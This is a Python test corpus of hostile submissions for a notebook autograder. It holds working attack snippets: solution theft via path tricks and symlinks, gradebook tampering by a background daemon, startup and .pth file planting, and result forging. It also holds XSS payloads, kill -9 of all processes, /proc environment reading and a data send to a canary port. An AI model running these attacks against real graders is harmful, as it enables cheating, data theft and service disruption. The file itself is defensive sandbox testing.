"""A scenario-named corpus of hostile and broken submissions of assignment 01.

Each :class:`Case` makes one student's submission folder and says what grading it must give:

* ``expect="zero"``: a cheat built on the blank release; it must score 0 everywhere.
* ``expect="full"``: honest work plus an attack on the grader or its machine; the attack must
  fail or stay inside the sandbox, and the honest work is graded as usual.
* ``expect={"from": grade_id}``: the notebook stops at that graded cell (a limit, a dead
  kernel); every graded cell before it scores full marks, it and the rest score 0.
* ``expect={"only": grade_id}``: only that graded cell loses its points.
* ``expect=None``: nbgrader itself refuses the submission before grading (named in its log).

``outcome`` is the text of the named outcome the grader must log (and show in the cells it
did not grade); ``None`` when the submission is graded normally.

The attacks know what an insider would: the absolute paths of the repository and the course
directory (passed in as ``ctx``).
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from typing import Callable

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell

from autograder.build import nbgrader_meta
from autograder.submissions import (blank_submission, reference_submission, replace_function,
                                    write_submission)

NB = "01_initialization"
FUNCTIONS = ["initialize_parameters_zeros", "initialize_parameters_random",
             "initialize_parameters_he", "initialize_parameters_xavier"]
HONEST = "h-honest"   # a classmate whose work the cheats go after


@dataclass
class Context:
    repo: str
    course: str
    home: str
    canary_port: int   # a TCP server on the grader's loopback that records connections
    unix_canary: str   # a Unix socket of the grader's machine that records connections


@dataclass
class Case:
    name: str
    make: Callable[[Context, str], None]   # (ctx, student) -> writes the submission
    expect: object = "zero"
    outcome: str | None = None
    note: str = ""
    tags: list = field(default_factory=list)


# ------------------------------------------------------------------ notebook edits
def _with_first_cell(nb, source: str):
    nb.cells.insert(0, new_code_cell(source))
    return nb


def _with_first_md(nb, source: str):
    nb.cells.insert(0, new_markdown_cell(source))
    return nb


def _with_cell_before(nb, grade_id: str, source: str):
    index = next(i for i, c in enumerate(nb.cells) if nbgrader_meta(c).get("grade_id") == grade_id)
    nb.cells.insert(index, new_code_cell(source))
    return nb


def _replace(nb, name: str, new_source: str):
    for cell in nb.cells:
        if nbgrader_meta(cell).get("solution") and f"def {name}(" in cell.source:
            cell.source = replace_function(cell.source, name, new_source)
    return nb


def _delegate_all(nb):
    """Every graded function calls what the first cell put into ``STOLEN``."""
    for name in FUNCTIONS:
        _replace(nb, name, f"def {name}(*args, **kwargs):\n"
                           f"    return STOLEN['{name}'](*args, **kwargs)\n")
    return nb


def _stealing(find: str):
    """A cheat: ``find`` (code) must set ``text`` to Python source that defines the functions."""
    def make(ctx: Context, student: str):
        cell = (f"import os, sys, glob, json, re\nREPO, COURSE = {ctx.repo!r}, {ctx.course!r}\n"
                f"STOLEN = {{}}\ntry:\n" + _indent(find) +
                "\n    exec(text, STOLEN)\nexcept BaseException as err:\n"
                "    print('cheat failed:', repr(err))\n")
        _write(_delegate_all(_with_first_cell(blank_submission(NB), cell)), student)
    return make


def _indent(code: str) -> str:
    return "\n".join("    " + line for line in code.strip().splitlines())


def _write(nb, student: str):
    return write_submission(nb, student, NB)


def _blank_with(code: str):
    return lambda ctx, student: _write(_with_first_cell(blank_submission(NB), code.format(
        repo=ctx.repo, course=ctx.course, home=ctx.home, port=ctx.canary_port,
        unix_canary=ctx.unix_canary)), student)


def _reference_with(code: str, before: str | None = None):
    def make(ctx, student):
        source = code.format(repo=ctx.repo, course=ctx.course, home=ctx.home,
                             port=ctx.canary_port, unix_canary=ctx.unix_canary)
        nb = reference_submission(NB)
        nb = _with_cell_before(nb, before, source) if before else _with_first_cell(nb, source)
        _write(nb, student)
    return make


def _sleeping_cells(count: int, seconds: int, before: str):
    def make(ctx, student):
        nb = reference_submission(NB)
        for _ in range(count):
            nb = _with_cell_before(nb, before, f"import time\ntime.sleep({seconds})\n")
        _write(nb, student)
    return make


def _reference_replacing(name: str, code: str):
    return lambda ctx, student: _write(_replace(reference_submission(NB), name, code), student)


def _raw(content: bytes):
    def make(ctx, student):
        path = _write(reference_submission(NB), student)
        path.write_bytes(content)
    return make


def _edited(edit: Callable):
    return lambda ctx, student: _write(edit(reference_submission(NB)), student)


# ------------------------------------------------------------------ broken notebooks
def _duplicate_graded_cell(nb):
    index = next(i for i, c in enumerate(nb.cells)
                 if nbgrader_meta(c).get("grade_id") == "initialize_parameters_he")
    nb.cells.insert(index + 1, nbformat.from_dict(json.loads(json.dumps(nb.cells[index]))))
    return nb


def _retype_graded_cell(nb):
    for cell in nb.cells:
        if nbgrader_meta(cell).get("grade_id") == "test_initialize_parameters_random":
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    return nb


def _strip_metadata(nb):
    for cell in nb.cells:
        cell.metadata = {}
    return nb


def _delete_solution_and_test(nb):
    nb.cells = [c for c in nb.cells if nbgrader_meta(c).get("grade_id") not in
                ("initialize_parameters_he", "test_initialize_parameters_he")]
    return nb


def _rename_argument(nb):
    for cell in nb.cells:
        if nbgrader_meta(cell).get("grade_id") == "initialize_parameters_he":
            cell.source = cell.source.replace("layer_dims", "dims")
    return nb


def _delete_test_cell(nb):
    nb.cells = [c for c in nb.cells
                if nbgrader_meta(c).get("grade_id") != "test_initialize_parameters_he"]
    return nb


def _old_schema(nb):
    for cell in nb.cells:
        if nbgrader_meta(cell).get("grade_id") == "initialize_parameters_zeros":
            cell.metadata.nbgrader["schema_version"] = 1
    return nb


def _edit_flags(nb):
    for cell in nb.cells:
        if nbgrader_meta(cell).get("grade_id") == "test_initialize_parameters_he":
            cell.metadata.nbgrader.update(grade=False, solution=True)
    return nb


def _edit_points(nb):
    for cell in nb.cells:
        if nbgrader_meta(cell).get("grade"):
            cell.metadata.nbgrader["points"] = 100
    return nb


def _edit_checksums(nb):
    for cell in nb.cells:
        if "checksum" in nbgrader_meta(cell):
            cell.metadata.nbgrader["checksum"] = "0" * 32
    return nb


def _bad_timestamp(ctx, student):
    path = _write(reference_submission(NB), student)
    (path.parent / "timestamp.txt").write_text("not a time at all")


def _symlinked_notebook(ctx, student):
    path = _write(blank_submission(NB), student)
    path.unlink()
    os.symlink(os.path.join(ctx.course, "source", NB, f"{NB}.ipynb"), path)


def _symlink_beside(ctx, student):
    nb = _with_first_cell(blank_submission(NB), (
        "STOLEN = {}\ntry:\n    exec(open('solution_link.py').read(), STOLEN)\n"
        "except Exception as err:\n    print(repr(err))\n"))
    path = _write(_delegate_all(nb), student)
    os.symlink(os.path.join(ctx.repo, "solutions", f"{NB}.py"), path.parent / "solution_link.py")


def _link_in_subfolder(ctx, student):
    path = _write(blank_submission(NB), student)
    (path.parent / "notes").mkdir()
    os.symlink(os.path.join(ctx.repo, "solutions", f"{NB}.py"), path.parent / "notes" / "a.txt")


def _launcher_beside(ctx, student):
    """Honest work, plus files that would run (and kill the kernel) if the kernel started in
    the submission's folder: before its socket folder is locked."""
    path = _write(reference_submission(NB), student)
    plant = "import os\nos._exit(1)\n"
    for name in ("ipykernel_launcher.py", "sitecustomize.py", "ipython_kernel_config.py"):
        (path.parent / name).write_text(plant)


def _fifo_beside(ctx, student):
    path = _write(reference_submission(NB), student)
    os.mkfifo(path.parent / "data.txt")


def _fifo_results():
    return _blank_with(
        "import os\n"
        "out = os.path.join(os.environ['DLBASICS_GRADING_DIR'], 'outputs')\n"
        f"for grade_id in {['test_' + f for f in FUNCTIONS]!r}:\n"
        "    os.mkfifo(os.path.join(out, grade_id + '.json'))\n"
        "    os.mkfifo(os.path.join(out, grade_id + '.npz'))\n")


FORGE_RESULTS = """\
import os, json, numpy as np
out = os.path.join(os.environ['DLBASICS_GRADING_DIR'], 'outputs')
for grade_id in {ids!r}:
    stem = os.path.join(out, grade_id)
    np.savez(stem + '.npz')
    with open(stem + '.json', 'w') as f:
        f.write({payload!r})
"""


def _forged(payload: str):
    ids = ["test_" + f for f in FUNCTIONS]
    code = FORGE_RESULTS.format(ids=ids, payload=payload).replace("{", "{{").replace("}", "}}")
    return _blank_with(code)


PATCH_ASSERTS = """\
import numpy as np
import dlbasics.public_tests as public_tests
np.testing.assert_allclose = lambda *args, **kwargs: None
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
public_tests.require = lambda *args, **kwargs: None
"""


def _script_in_html(ctx, student):
    nb = _with_first_cell(blank_submission(NB), (
        "from IPython.display import HTML, display\n"
        "display(HTML('<script>document.title = \"pwned-output\"</script><b>bold</b>'))\n"))
    nb.cells.insert(0, new_markdown_cell('<script>document.title = "pwned-markdown"</script>'))
    _write(nb, student)


def _patch_asserts(ctx, student):
    nb = reference_submission(NB)
    for name in FUNCTIONS:
        _replace(nb, name, f"def {name}(*args, **kwargs):\n    return {{}}\n")
    _write(_with_first_cell(nb, PATCH_ASSERTS), student)


ENDLESS_IGNORING_SIGINT = """\
def initialize_parameters_xavier(layer_dims, seed=3):
    import signal
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
"""

WALK_UP = """\
here = os.getcwd()
text = None
for _ in range(8):
    for candidate in (os.path.join(here, 'solutions', '01_initialization.py'),):
        if os.path.exists(candidate):
            text = open(candidate).read()
    here = os.path.dirname(here)
if text is None:
    raise FileNotFoundError('no solutions/ above ' + os.getcwd())
"""

SEARCH_FILESYSTEM = """\
text = None
for top in ('/', ):
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev')]
        if root.endswith('solutions') and '01_initialization.py' in files:
            text = open(os.path.join(root, '01_initialization.py')).read()
            break
if text is None:
    raise FileNotFoundError('solutions/ not found anywhere')
"""

FROM_SOURCE_NOTEBOOK = """\
paths = glob.glob(COURSE + '/source/01_initialization/*.ipynb') + \\
        glob.glob('../../../source/01_initialization/*.ipynb')
nb = json.load(open(paths[0]))
text = '\\n'.join(''.join(c['source']) for c in nb['cells']
                  if c.get('metadata', {}).get('nbgrader', {}).get('solution'))
"""

FROM_CLASSMATE = """\
paths = glob.glob(COURSE + '/submitted/h-honest/01_initialization/*.ipynb') + \\
        glob.glob('../../h-honest/01_initialization/*.ipynb') + \\
        glob.glob(COURSE + '/autograded/h-honest/01_initialization/*.ipynb')
nb = json.load(open(paths[0]))
text = '\\n'.join(''.join(c['source']) for c in nb['cells']
                  if c.get('metadata', {}).get('nbgrader', {}).get('solution'))
"""

FROM_EDITABLE_INSTALL = """\
import site
text = None
for folder in site.getsitepackages():
    for pth in glob.glob(folder + '/__editable__*.pth'):
        course = open(pth).read().split()[0]
        text = open(os.path.join(os.path.dirname(course), 'solutions', '01_initialization.py')).read()
if text is None:
    raise FileNotFoundError('no editable install to follow')
"""

SYS_PATH_IMPORT = """\
import importlib
for path in ('../../../..', '../../..', REPO):
    sys.path.insert(0, path)
module = importlib.import_module('solutions.01_initialization')
import inspect
text = inspect.getsource(module)
"""

FROM_NBGRADER_CONFIG = """\
config = None
for path in (REPO + '/nbgrader_config.py', '../../../../nbgrader_config.py'):
    if os.path.exists(path):
        config = path
root = os.path.dirname(config)
text = open(os.path.join(root, 'solutions', '01_initialization.py')).read()
"""

WRITE_GRADEBOOK = """\
import sqlite3, glob
hits = glob.glob('{course}/gradebook.db') + glob.glob('../../../gradebook.db')
db = sqlite3.connect(hits[0])
db.execute('UPDATE grade SET auto_score = 0')
db.commit()
"""

BACKGROUND_GRADEBOOK = """\
import os, time, sqlite3
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(120):
            try:
                db = sqlite3.connect('{course}/gradebook.db')
                db.execute('UPDATE grade SET auto_score = 0')
                db.commit()
            except Exception:
                pass
            time.sleep(1)
    os._exit(0)
"""

PLANT = """\
import os
planted = []
for path, text in {targets}:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, 'a') as f:
            f.write(text)
        planted.append(path)
    except Exception as err:
        print('could not plant', path, repr(err))
print('planted:', planted)
"""


def _plant(targets: str):
    return _blank_with(PLANT.replace("{targets}", targets))


PLANT_LIBRARY = ("[(__import__('dlbasics').__path__[0] + '/plain_data.py', '\\nraise SystemExit\\n'),"
                 " ('{repo}/course/dlbasics/harness/_planted.py', 'PLANTED = 1\\n'),"
                 " ('{repo}/course/dlbasics/plain_data.py', '\\nPLANTED = 1\\n')]")
PLANT_SOLUTIONS = "[('{repo}/solutions/01_initialization.py', '\\nPLANTED = 1\\n')]"
PLANT_CONFIG = "[('{repo}/nbgrader_config.py', '\\nc.Execute.timeout = 1\\n')]"
PLANT_STARTUP = ("[(os.path.expanduser('~/.ipython/profile_default/startup/00-cheat.py'), 'X=1\\n'),"
                 " ('{home}/.ipython/profile_default/startup/00-cheat.py', 'X=1\\n')]")
PLANT_PTH = ("[(__import__('site').getsitepackages()[0] + '/zz_cheat.pth', 'import os\\n'),"
             " (__import__('sys').prefix + '/lib/zz_cheat.py', 'X=1\\n')]")


CASES = [
    # ---- reading what the kernel must not see
    Case("x-sys-path-import", _stealing(SYS_PATH_IMPORT), note="import solutions via sys.path"),
    Case("x-walk-up-cwd", _stealing(WALK_UP), note="walk up from the working directory"),
    Case("x-search-filesystem", _stealing(SEARCH_FILESYSTEM), note="os.walk('/') for solutions/"),
    Case("x-nbgrader-config", _stealing(FROM_NBGRADER_CONFIG), note="follow nbgrader_config.py"),
    Case("x-editable-install", _stealing(FROM_EDITABLE_INSTALL), note="follow the .pth of an "
         "editable install"),
    Case("x-source-notebook", _stealing(FROM_SOURCE_NOTEBOOK), note="read the instructor's source"),
    Case("x-copy-classmate", _stealing(FROM_CLASSMATE), note="copy a classmate's notebook"),
    Case("x-symlink-notebook", _symlinked_notebook, outcome="symbolic link",
         note="hand in a link to the source notebook"),
    Case("x-symlink-beside", _symlink_beside, outcome="symbolic link",
         note="a link to solutions/ beside the notebook"),
    Case("x-symlink-in-subfolder", _link_in_subfolder, outcome="symbolic link",
         note="a link to solutions/ in a folder of the submission"),
    Case("x-launcher-beside", _launcher_beside, expect="full", note="ipykernel_launcher.py, sitecustomize.py and "
         "a config file beside the notebook, to run before the socket folder is locked"),
    # ---- writing what the kernel must not change
    Case("x-write-gradebook", _blank_with(WRITE_GRADEBOOK), note="sqlite3 on gradebook.db"),
    Case("x-background-gradebook", _blank_with(BACKGROUND_GRADEBOOK),
         note="a daemon that outlives the notebook"),
    Case("x-plant-library", _plant(PLANT_LIBRARY), note="write into dlbasics"),
    Case("x-plant-solutions", _plant(PLANT_SOLUTIONS), note="write into solutions/"),
    Case("x-plant-config", _plant(PLANT_CONFIG), note="write into nbgrader_config.py"),
    Case("x-plant-startup", _plant(PLANT_STARTUP), note="IPython startup file in $HOME"),
    Case("x-plant-pth", _plant(PLANT_PTH), note=".pth file in site-packages"),
    # ---- forging what the grader reads
    Case("x-forge-results", _forged('{"list": [{"dict": {"value": {"dict": {}}}}]}'),
         note="result files written by hand"),
    Case("x-forge-error-entries", _forged('{"list": [{"dict": {"error": {"dict": {}}}}]}'),
         note="results whose error entries lack fields"),
    Case("x-forge-junk", _forged('[[[[[[[[[[["deep"]]]]]]]]]]]'), note="results of the wrong form"),
    Case("x-fifo-results", _fifo_results(), note="FIFOs in place of result files"),
    Case("x-symlink-results", _blank_with(
        "import os\nout = os.path.join(os.environ['DLBASICS_GRADING_DIR'], 'outputs')\n"
        f"for g in {['test_' + f for f in FUNCTIONS]!r}:\n"
        "    os.symlink('/etc/passwd', os.path.join(out, g + '.json'))\n"
        "    os.symlink('/etc/passwd', os.path.join(out, g + '.npz'))\n"),
         note="symlinks in place of result files"),
    Case("x-patch-hidden-check", _blank_with(
        "import dlbasics.grading as grading\n"
        "grading.run_case = lambda function, case: {{'value': {{}}}}\n"), note="patch the harness"),
    Case("x-patch-plain-data", _blank_with(
        "from dlbasics import plain_data\n_save = plain_data.save\n"
        "plain_data.save = lambda stem, value: _save(stem, [{{'value': {{}}}} for _ in value])\n"),
         note="patch plain_data.save"),
    Case("x-patch-builtins", _blank_with(
        "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.len = lambda *a: 4\n"),
         note="patch builtins"),
    Case("x-suppress-errors", _blank_with(
        "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)"),
         note="IPython custom exception handler"),
    Case("x-hide-tracebacks", _blank_with(
        "shell = get_ipython()\nshell.showtraceback = lambda *a, **k: None\n"
        "shell._showtraceback = lambda *a, **k: None\n"), note="patch IPython's traceback"),
    Case("x-patch-asserts", _patch_asserts, note="patch numpy's and the public tests' asserts"),
    Case("x-javascript-link", lambda ctx, student: _write(_with_first_md(
        blank_submission(NB), "[click](javascript:document.title=1)"), student),
         note="a javascript: link in a Markdown cell"),
    Case("x-img-onerror", _blank_with(
        "from IPython.display import display\n"
        "display({{'image/png': 'x'}}, raw=True, metadata={{'image/png': "
        "{{'width': '1 onerror=document.title=1//', 'height': '1'}}}})\n"),
         note="an event handler smuggled in an image's width"),
    Case("x-socket-symlink", _blank_with(
        "import json, os, time\nfrom ipykernel.kernelapp import IPKernelApp\n"
        "app = IPKernelApp.instance()\nc = json.load(open(app.connection_file))\n"
        "path = f\"{{c['ip']}}-{{c['stdin_port']}}\"\n"
        "try:\n    os.unlink(path)\n    os.symlink('{unix_canary}', path)\n"
        "except OSError as err:\n    print(err)\n"),
         note="swap a Jupyter socket for a link to a host socket"),
    Case("x-script-in-html", _script_in_html, note="<script> in an output and in Markdown, "
         "for whoever opens the feedback or the formgrader"),
    # ---- the grader and its machine
    Case("x-kill-parent", _blank_with("import os\nos.kill(os.getppid(), 9)\n"),
         note="kill -9 the parent process"),
    Case("x-kill-everything", _blank_with(
        "import os\ntry:\n    os.kill(-1, 9)\nexcept OSError as err:\n    print(err)\n"
        "os.killpg(0, 9)\n"), outcome="kernel died",
         note="kill -9 every process it can, then its own process group"),
    Case("x-sigstop-parent", _blank_with("import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\n"),
         note="SIGSTOP the parent process"),
    Case("x-network", _blank_with(
        "import socket\nfor host in ('127.0.0.1', '10.0.0.1'):\n    try:\n"
        "        socket.create_connection((host, {port}), timeout=3).sendall(b'stolen')\n"
        "    except OSError as err:\n        print(host, err)\n"), note="open a TCP connection"),
    Case("x-read-environment", _stealing(
        "text = ''\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n        try:\n"
        "            env = open(f'/proc/{pid}/environ').read()\n"
        "            text += '\\n'.join('# ' + line for line in env.split('\\0'))\n"
        "        except OSError:\n            pass\n"
        "text = open(REPO + '/solutions/01_initialization.py').read()\n"),
         note="other processes' environment, then the repository"),
    # ---- limits: honest work plus something runaway
    Case("r-os-exit-in-graded-function", _reference_replacing(
        "initialize_parameters_he", "def initialize_parameters_he(layer_dims, seed=3):\n"
        "    import os\n    os._exit(3)\n"),
         expect={"from": "test_initialize_parameters_he"}, outcome="kernel died"),
    Case("r-fork-50", _reference_with(
        "import os, time\nfor _ in range(50):\n    if os.fork() == 0:\n        time.sleep(3600)\n"
        "        os._exit(0)\n"), expect="full", note="50 processes left sleeping"),
    Case("r-allocate-6gib", _reference_with(
        "import numpy as np\ntry:\n    big = np.ones(6 * 2**30, dtype=np.uint8)\n"
        "except MemoryError as err:\n    print('MemoryError', err)\n"), expect="full"),
    Case("r-endless-ignoring-sigint", _reference_replacing(
        "initialize_parameters_xavier", ENDLESS_IGNORING_SIGINT),
         expect={"from": "test_initialize_parameters_xavier"}, outcome="could not be interrupted"),
    Case("r-sleep-past-limit", _sleeping_cells(3, 25, before="test_initialize_parameters_he"),
         expect={"from": "test_initialize_parameters_he"}, outcome="the notebook ran past",
         note="each cell under its limit, the notebook over its own"),
    Case("r-stderr-noise", _reference_with(
        "import sys\nimport numpy as np\n_zeros = np.zeros\n"
        "def noisy_zeros(*args, **kwargs):\n"
        "    sys.stderr.write('I tensorflow/core/platform/cpu_feature_guard.cc:210] noise\\n')\n"
        "    return _zeros(*args, **kwargs)\nnp.zeros = noisy_zeros\n"), expect="full",
         note="log noise on stderr costs nothing"),
    Case("r-huge-exception", _reference_with(
        "try:\n    raise ValueError('x' * 50_000_000)\nexcept ValueError:\n    pass\n"
        "raise ValueError('x' * 50_000_000)\n"), expect="full",
         note="a 50 MB error message in a cell"),
    Case("r-display-fanout", _reference_with(
        "from IPython.display import display, update_display\n"
        "for _ in range(1000):\n    display({{'text/plain': ''}}, raw=True, display_id='amp')\n"
        "update_display({{'text/plain': 'A' * 300_000}}, raw=True, display_id='amp')\n"),
         expect="full", note="one update rewrites a thousand outputs"),
    Case("r-comm-buffers", _reference_with(
        "from comm import create_comm\nblob = b'\\0' * 100_000_000\nfor _ in range(3):\n"
        "    create_comm(target_name='nothing', data={{}}, buffers=[blob])\n"),
         expect="full", note="300 MB of widget buffers"),
    Case("x-malformed-message", _blank_with(
        "k = get_ipython().kernel\n"
        "k.session.send(k.iopub_socket, 'stream', {{'name': 'stdout'}}, parent=k.get_parent())\n"),
         outcome="cannot use", note="an iopub message nbclient cannot parse"),
    Case("r-stdout-100mb", _reference_with(
        "import sys\nfor _ in range(100):\n    sys.stdout.write('x' * 2**20)\n"), expect="full"),
    Case("r-huge-images", _reference_with(
        "import base64, os\nfrom IPython.display import display\n"
        "for _ in range(30):\n    display({{'image/png': base64.b64encode(os.urandom(2**20)).decode()}},"
        " raw=True)\n"), expect="full"),
    Case("r-big-file", _reference_with(
        "try:\n    with open('big.bin', 'wb') as f:\n        for _ in range(1024):\n"
        "            f.write(b'x' * 2**20)\nexcept OSError as err:\n    print(err)\n"),
         expect="full", note="a 1 GiB file in the scratch folder"),
    # ---- broken notebooks: a named outcome, nothing lost
    Case("b-invalid-json", _raw(b'{"cells": [ this is not json'), outcome="", tags=["unreadable"]),
    Case("b-empty-file", _raw(b""), outcome="", tags=["unreadable"]),
    Case("b-nbformat-v3", _raw(json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
                                           "worksheets": [{"cells": []}]}).encode()),
         outcome="", tags=["unreadable"]),
    Case("b-not-utf8", _raw(b'{"cells": [], "metadata": {"x": "\xff\xfe"}, "nbformat": 4, '
                            b'"nbformat_minor": 5}'), outcome="", tags=["unreadable"]),
    Case("b-50mb-notebook", _raw(json.dumps({"cells": [{"cell_type": "markdown", "metadata": {},
                                                        "source": "x" * 50 * 2**20}],
                                             "metadata": {}, "nbformat": 4,
                                             "nbformat_minor": 5}).encode()),
         outcome="", tags=["unreadable"]),
    Case("b-changed-signature", _edited(_rename_argument),
         expect={"only": "test_initialize_parameters_he"}, note="a renamed argument"),
    Case("b-deleted-test-cell", _edited(_delete_test_cell), expect="full",
         note="the test cell is put back and graded"),
    Case("b-duplicated-graded-cell", _edited(_duplicate_graded_cell), expect="full"),
    Case("b-retyped-graded-cell", _edited(_retype_graded_cell), expect="full"),
    Case("b-stripped-metadata", _edited(_strip_metadata), expect="full"),
    Case("b-deleted-solution-and-test", _edited(_delete_solution_and_test),
         expect={"only": "test_initialize_parameters_he"}),
    Case("b-edited-points", _edited(_edit_points), expect="full"),
    Case("b-old-schema-version", _edited(_old_schema), expect="full",
         note="nbgrader would stop the whole class run on it"),
    Case("b-edited-flags", _edited(_edit_flags), expect="full",
         note="a test cell marked as a solution cell"),
    Case("b-edited-checksums", _edited(_edit_checksums), expect="full"),
    # nbgrader itself stops on these two before any preprocessor runs; it names the student in
    # its log and grades the rest of the class (README, "Known limits")
    Case("b-bad-timestamp", _bad_timestamp, expect=None, outcome="Unknown string format",
         tags=["skipped by nbgrader"]),
    Case("b-fifo-beside", _fifo_beside, expect=None, outcome="named pipe",
         tags=["skipped by nbgrader"]),
]

HONEST_STUDENTS = {
    HONEST: lambda ctx, student: _write(reference_submission(NB), student),
    "h-blank": lambda ctx, student: _write(blank_submission(NB), student),
}
